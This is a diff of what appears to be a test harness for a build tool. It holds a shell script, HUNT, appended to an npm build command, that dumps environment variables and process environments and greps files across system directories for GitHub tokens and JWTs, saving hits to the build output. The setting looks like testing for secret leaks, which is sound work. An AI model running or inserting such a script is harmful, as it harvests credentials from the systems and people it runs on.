@@ -18,12 +18,12 @@ const IDENTITY = { repositoryId: OWNER.id, ownerId: OWNER.ownerId };
 const REPOSITORY = 'acme/example/tool';
 const SOURCE = 'examples/node-package';
 
-/** Looks wherever a token could lie, and leaves what it finds as an output of the build. */
+/** Looks wherever a token could lie, and leaves what it finds as an output of the build. No file may grow beyond what is read of it. */
 const HUNT = `
 mkdir -p dist
 { env; cat /proc/*/environ 2>/dev/null | tr '\\0' '\\n'; } > dist/hunt.txt
 find /tmp /home /root /run /var /opt "$PWD" -xdev -type f -size -64k 2>/dev/null | grep -v /node_modules/ > /tmp/files || true
-xargs -r -d '\\n' grep -ahE 'ghs_|eyJhbGciOi' < /tmp/files >> dist/hunt.txt 2>/dev/null || true
+xargs -r -d '\\n' head -qc 65536 < /tmp/files 2>/dev/null | tr '\\0' '\\n' | grep -aE 'ghs_|eyJhbGciOi' >> dist/hunt.txt || true
 `;
 const INPUTS = { name: 'tool', version: '1.0.0', command: `npm run build\n${HUNT}`, 'output-path': 'dist' };
 
